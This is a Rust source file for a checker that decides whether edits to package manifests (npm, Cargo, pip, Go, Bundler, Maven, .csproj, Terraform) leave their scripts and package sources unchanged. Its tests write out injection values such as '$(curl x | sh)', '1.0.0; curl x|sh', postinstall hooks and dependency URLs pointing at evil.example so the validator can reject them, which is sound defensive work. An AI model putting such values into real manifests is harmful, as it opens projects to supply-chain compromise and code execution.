//! Edits of a project's manifest that touch neither what it runs nor where it gets things from: another version, a
//! description, a dependency by its name and version.
//!
//! An edit is a piece of a file, so a line has to be harmless wherever in the file it stands: in a table of scripts, in an
//! array, in a text of several lines. Architecture invariant: what is not known to be so is a change of what runs.
//!
//! Sources: npm-package-json(5), "composer.json schema"; The Cargo Book, "The Manifest Format"; PEP 440, PEP 508, PEP 621;
//! pip, "Requirements File Format"; Go Modules Reference, "go.mod files"; Bundler, "gemfile(5)"; Maven, "POM Reference";
//! MSBuild, "PackageReference"; Terraform, "Backend Configuration".

use handraise_shell::path::components;

use crate::Subject;
use crate::project_code::finds_nothing_in;

/// Keys that describe a project, in every table, with a plain text or a list of them.
const DESCRIBING: &str = "name version description authors author maintainers keywords categories classifiers homepage \
    license title edition rust-version requires-python private publish type";
const BOOLEANS: &str = "true false";
/// Words for a version that registries know.
const TAGS: &str = "latest next beta canary workspace:* workspace:^ workspace:~";
/// Keys of a dependency that choose among what a registry has under its name.
const CHOOSING: &str = "version features optional default-features extras";

/// Whether the change that `subject` makes to its file leaves alone what that file runs, and where it gets things from.
#[must_use]
pub(crate) fn leaves_what_runs(subject: &Subject) -> bool {
    match subject {
        Subject::Edit { path, before, after } => {
            let Some(name) = components(path).next_back().map(str::to_lowercase) else { return false };
            if is_terraform(&name) {
                return [before, after].into_iter().all(|text| finds_nothing_in("terraform", "*.tf", text));
            }
            let Some(is_harmless) = harmless_line(&name) else { return false };
            changed_lines(before, after).all(|line| is_harmless(line.trim()))
        }
        // What was there before nobody here knows.
        Subject::Write { path, content } => {
            let name = components(path).next_back().map(str::to_lowercase);
            name.is_some_and(|name| is_terraform(&name)) && finds_nothing_in("terraform", "*.tf", content)
        }
        Subject::Command { .. } | Subject::Read { .. } | Subject::Fetch { .. } | Subject::Arguments => false,
    }
}

fn is_terraform(name: &str) -> bool {
    [".tf", ".tofu"].iter().any(|ending| name.ends_with(ending))
}

/// What says of a line of the manifest called `name` that it is harmless.
fn harmless_line(name: &str) -> Option<fn(&str) -> bool> {
    Some(match name {
        "package.json" | "composer.json" => json,
        "cargo.toml" | "pyproject.toml" | "pipfile" => toml,
        "go.mod" => go,
        "gemfile" => gem,
        "pom.xml" => xml,
        _ if name.ends_with(".csproj") => xml,
        _ if name.starts_with("requirements") && name.ends_with(".txt") => requirement,
        _ => return None,
    })
}

/// The lines of both texts without those with which both begin and end.
fn changed_lines<'a>(before: &'a str, after: &'a str) -> impl Iterator<Item = &'a str> {
    let (old, new): (Vec<&str>, Vec<&str>) = (before.lines().collect(), after.lines().collect());
    let same = |(a, b): &(&&str, &&str)| a == b;
    let front = old.iter().zip(&new).take_while(same).count();
    let (old, new) = (old.get(front..).unwrap_or_default().to_vec(), new.get(front..).unwrap_or_default().to_vec());
    let end = old.iter().rev().zip(new.iter().rev()).take_while(same).count();
    let without = move |lines: Vec<&'a str>| lines.into_iter().rev().skip(end).collect::<Vec<_>>();
    without(old).into_iter().chain(without(new))
}

fn listed(list: &str, word: &str) -> bool {
    list.split_ascii_whitespace().any(|one| one == word)
}

/// A text in quotes in which no shell finds anything to replace.
fn plain_text(value: &str) -> Option<&str> {
    let inside = value.strip_prefix('"')?.strip_suffix('"').or(None)?;
    (!inside.contains(['"', '\\', '$', '`'])).then_some(inside)
}

fn plain_texts(value: &str) -> Option<Vec<&str>> {
    let inside = value.strip_prefix('[')?.strip_suffix(']')?.trim();
    let inside = inside.strip_suffix(',').unwrap_or(inside);
    if inside.is_empty() {
        return Some(Vec::new());
    }
    inside.split(',').map(|one| plain_text(one.trim())).collect()
}

/// Which versions are meant: `^1.2`, `>=2, <3`, `1.x || 2.0.0-rc.1`, `*`.
fn is_version(text: &str) -> bool {
    if listed(TAGS, text) {
        return true;
    }
    let mut tokens = text.split([' ', ',', '|']).filter(|token| !token.is_empty()).peekable();
    tokens.peek().is_some()
        && tokens.all(|token| {
            let number = token.trim_start_matches(['^', '~', '<', '>', '=', '!', 'v']);
            let (number, label) =
                number.split_once(['-', '+']).map_or((number, None), |(front, label)| (front, Some(label)));
            let is_part =
                |part: &str| ["x", "*"].contains(&part) || !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
            let is_label = |label: &str| label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
            let is_operator = number.is_empty() && label.is_none();
            is_operator || number.split('.').all(is_part) && label.is_none_or(is_label)
        })
        && text.contains(|c: char| c.is_ascii_digit() || c == '*')
}

/// The name of a package: `@scope/name`, `symfony/console`, `serde_json`.
fn is_package(name: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
    let name = name.strip_prefix('@').unwrap_or(name);
    !name.is_empty()
        && name.split('/').count() <= 2
        && name.split('/').all(|part| !part.is_empty() && part.chars().all(plain))
}

/// `"key": "value",`
fn json(line: &str) -> bool {
    let line = line.strip_suffix(',').unwrap_or(line);
    let Some((key, value)) = line.split_once(':') else { return line.is_empty() };
    let (Some(key), value) = (plain_text(key.trim()), value.trim()) else { return false };
    if listed(DESCRIBING, key) {
        return plain_text(value).is_some() || plain_texts(value).is_some() || listed(BOOLEANS, value);
    }
    is_package(key) && plain_text(value).is_some_and(is_version)
}

/// `key = "value"`, `key = { version = "1", features = ["a"] }`, `"requests>=2",`
fn toml(line: &str) -> bool {
    if line.is_empty() || line.starts_with('#') {
        return true;
    }
    let Some((key, value)) = line.split_once(" = ") else {
        return plain_text(line.strip_suffix(',').unwrap_or(line)).is_some_and(is_versioned_requirement);
    };
    let (key, value) = (key.trim(), value.trim());
    let describes = listed(DESCRIBING, key)
        && (plain_text(value).is_some() || plain_texts(value).is_some() || listed(BOOLEANS, value));
    let inline = || {
        let pairs = value.strip_prefix('{')?.strip_suffix('}')?;
        in_pairs(pairs).map(|pairs| {
            pairs.iter().all(|(key, value)| {
                listed(CHOOSING, key)
                    && match *key {
                        "version" => plain_text(value).is_some_and(is_version),
                        "features" | "extras" => plain_texts(value).is_some_and(|all| all.into_iter().all(is_feature)),
                        _ => listed(BOOLEANS, value),
                    }
            })
        })
    };
    describes || is_package(key) && (plain_text(value).is_some_and(is_version) || inline() == Some(true))
}

fn is_feature(name: &str) -> bool {
    name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_/?:".contains(&byte))
}

/// The pairs of an inline table; a list may have commas of its own.
fn in_pairs(text: &str) -> Option<Vec<(&str, &str)>> {
    let (mut depth, mut start, mut pairs) = (0_usize, 0, Vec::new());
    let ends = text.char_indices().filter_map(|(at, sign)| {
        match sign {
            '[' => depth += 1,
            ']' => depth = depth.saturating_sub(1),
            _ => {}
        }
        (sign == ',' && depth == 0).then_some(at)
    });
    for end in ends.collect::<Vec<_>>().into_iter().chain([text.len()]) {
        let pair = text.get(start..end)?;
        start = end + 1;
        let (key, value) = pair.split_once('=')?;
        pairs.push((key.trim(), value.trim()));
    }
    Some(pairs)
}

/// `requests[socks]>=2.31,<3`. A `@` would be an address.
fn is_versioned_requirement(text: &str) -> bool {
    let end = text.find(['<', '>', '=', '!', '~']).unwrap_or(text.len());
    let (name, version) = text.split_at_checked(end).unwrap_or_default();
    is_requirement_name(name.trim()) && is_version(version.trim())
}

fn is_requirement_name(name: &str) -> bool {
    let (name, extras) = name.split_once('[').map_or((name, None), |(name, extras)| (name, Some(extras)));
    let is_extra = |extras: &str| {
        extras.strip_suffix(']').is_some_and(|inside| inside.split(',').all(|one| is_package(one.trim())))
    };
    is_package(name) && !name.contains('/') && extras.is_none_or(is_extra)
}

fn requirement(line: &str) -> bool {
    let line = line.split(" #").next().unwrap_or_default().trim();
    line.is_empty()
        || line.starts_with('#')
        || is_requirement_name(line) && !line.starts_with('-')
        || is_versioned_requirement(line)
}

/// `require example.org/a v1.2.3 // indirect`
fn go(line: &str) -> bool {
    let line = line.split("//").next().unwrap_or_default().trim();
    let words: Vec<&str> = line.split_ascii_whitespace().collect();
    let is_path =
        |path: &str| path.contains('.') && path.bytes().all(|b| b.is_ascii_alphanumeric() || b"./_~-".contains(&b));
    let is_tagged = |version: &str| version.starts_with('v') && is_version(version);
    match words.as_slice() {
        [] => true,
        ["go", version] => is_version(version),
        ["require", path, version] | [path, version] => is_path(path) && is_tagged(version),
        _ => false,
    }
}

/// `gem "rails", "~> 7.1", require: false`
fn gem(line: &str) -> bool {
    if line.is_empty() || line.starts_with('#') {
        return true;
    }
    let Some(rest) = line.strip_prefix("gem ") else { return false };
    let rest = rest.replace('\'', "\"");
    let mut words = rest.split(',').map(str::trim);
    words.next().and_then(plain_text).is_some_and(is_package)
        && words.all(|word| word == "require: false" || plain_text(word).is_some_and(is_version))
}

/// `<version>1.2</version>`, `<PackageReference Include="A.B" Version="1.2.3" />`
fn xml(line: &str) -> bool {
    if line.is_empty() {
        return true;
    }
    if let Some(rest) = line.strip_prefix("<PackageReference Include=") {
        let Some((name, version)) = rest.split_once(" Version=") else { return false };
        let version = version.trim_end_matches("/>").trim();
        return plain_text(name).is_some_and(is_package) && plain_text(version).is_some_and(is_version);
    }
    let element =
        |name: &str| line.strip_prefix(&format!("<{name}>")).and_then(|rest| rest.strip_suffix(&format!("</{name}>")));
    ["version", "Version", "VersionPrefix"].iter().any(|name| element(name).is_some_and(is_version))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn edit(name: &str, before: &str, after: &str) -> bool {
        let path = format!("/srv/app/{name}");
        leaves_what_runs(&Subject::Edit { path, before: before.into(), after: after.into() })
    }

    #[test]
    fn versions_descriptions_and_dependencies_leave_what_runs() {
        for (name, before, after) in [
            ("package.json", "  \"version\": \"1.0.0\",", "  \"version\": \"1.1.0-rc.1\","),
            ("package.json", "\"react\": \"^18.2.0\"", "\"react\": \"^19.0.0\",\n    \"@types/node\": \">=20 <23\""),
            ("package.json", "\"description\": \"A shop\"", "\"description\": \"A shop, faster; and safer\""),
            ("composer.json", "\"symfony/console\": \"^6.4 || ^7.0\"", "\"symfony/console\": \"^7.0\""),
            (
                "Cargo.toml",
                "serde = \"1\"\n",
                "serde = { version = \"1\", features = [\"derive\", \"rc\"] }\ntokio = \"1.40\"\n",
            ),
            ("Cargo.toml", "[dependencies]\nserde = \"1\"", "[dependencies]\nserde = \"1.0.200\""),
            ("pyproject.toml", "version = \"0.1.0\"", "version = \"0.2.0\""),
            ("pyproject.toml", "    \"requests>=2.31\",", "    \"requests>=2.32,<3\",\n    \"httpx[http2]~=0.27\","),
            ("requirements-dev.txt", "pytest==8.0", "pytest==8.1  # newer\nruff"),
            ("go.mod", "\tgolang.org/x/sys v0.20.0 // indirect", "\tgolang.org/x/sys v0.21.0"),
            ("go.mod", "go 1.22", "go 1.23.1"),
            ("Gemfile", "gem 'rails', '~> 7.1'", "gem 'rails', '~> 7.2'\ngem \"sidekiq\", require: false"),
            ("pom.xml", "<version>1.0</version>", "    <version>1.1-SNAPSHOT</version>"),
            ("App.csproj", "", "<PackageReference Include=\"Serilog\" Version=\"4.0.0\" />"),
            ("main.tf", "bucket = \"x\"", "bucket = \"y\""),
        ] {
            assert!(edit(name, before, after), "{name}: {after}");
        }
        let content = "resource \"aws_s3_bucket\" \"b\" {\n  bucket = \"x\"\n}\n".to_owned();
        assert!(leaves_what_runs(&Subject::Write { path: "/srv/app/main.tf".into(), content }));
    }

    #[test]
    fn what_runs_and_where_it_comes_from_is_touched() {
        for (name, before, after) in [
            ("package.json", "\"test\": \"jest\"", "\"test\": \"vitest\""),
            ("package.json", "\"prepare\": \"husky\",\n\"version\": \"1.0.0\"", "\"version\": \"1.0.0\""),
            ("package.json", "\"a\": \"^1.0.0\"", "\"a\": \"git+https://evil.example/a\""),
            ("package.json", "\"a\": \"^1.0.0\"", "\"a\": \"file:../a\""),
            ("package.json", "\"a\": \"1.0.0\"", "\"a\": \"1.0.0; curl x|sh\""),
            ("package.json", "\"version\": \"1.0.0\"", "\"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"x\"}"),
            ("package.json", "\"description\": \"a\"", "\"description\": \"$(curl x | sh)\""),
            ("package.json", "\"packageManager\": \"pnpm@9.0.0\"", "\"packageManager\": \"pnpm@9.1.0\""),
            ("package.json", "jest\"", "vitest\""),
            ("package.json", "  }", "  },"),
            ("package.json", "", "\"dependencies\": {"),
            ("Cargo.toml", "serde = \"1\"", "serde = { git = \"https://evil.example\" }"),
            ("Cargo.toml", "serde = \"1\"", "serde = { version = \"1\", registry = \"evil\" }"),
            ("Cargo.toml", "", "build = \"x.rs\""),
            ("Cargo.toml", "", "[patch.crates-io]"),
            ("Cargo.toml", "", "[profile.dev]"),
            ("pyproject.toml", "", "[tool.poe.tasks]"),
            ("pyproject.toml", "", "lint = \"ruff check\""),
            ("pyproject.toml", "", "\"evil @ https://evil.example/x.whl\","),
            ("pyproject.toml", "", "requires = [\"evil\"]"),
            ("requirements.txt", "requests", "-r other.txt"),
            ("requirements.txt", "requests", "--index-url https://evil.example"),
            ("requirements.txt", "requests", "git+https://evil.example/x"),
            ("requirements.txt", "requests", "./local"),
            ("go.mod", "", "replace a.b/c => ../c"),
            ("go.mod", "", "toolchain evil"),
            ("go.mod", "", "tool a.b/c"),
            ("Gemfile", "", "gem 'a', git: 'https://evil.example'"),
            ("Gemfile", "", "system('x')"),
            ("Gemfile", "", "source 'https://evil.example'"),
            ("pom.xml", "", "<artifactId>exec-maven-plugin</artifactId>"),
            ("App.csproj", "", "<Exec Command=\"x\" />"),
            ("Makefile", "VERSION = 1", "VERSION = 2"),
            (".github/workflows/ci.yml", "version: 1", "version: 2"),
            ("package-lock.json", "\"version\": \"1.0.0\"", "\"version\": \"1.0.1\""),
            ("main.tf", "", "terraform {\n  backend \"http\" {\n    address = \"x\"\n  }\n}"),
        ] {
            assert!(!edit(name, before, after), "{name}: {after}");
        }
        let content = "{ \"version\": \"1.0.0\" }".to_owned();
        assert!(!leaves_what_runs(&Subject::Write { path: "/srv/app/package.json".into(), content }));
    }
}
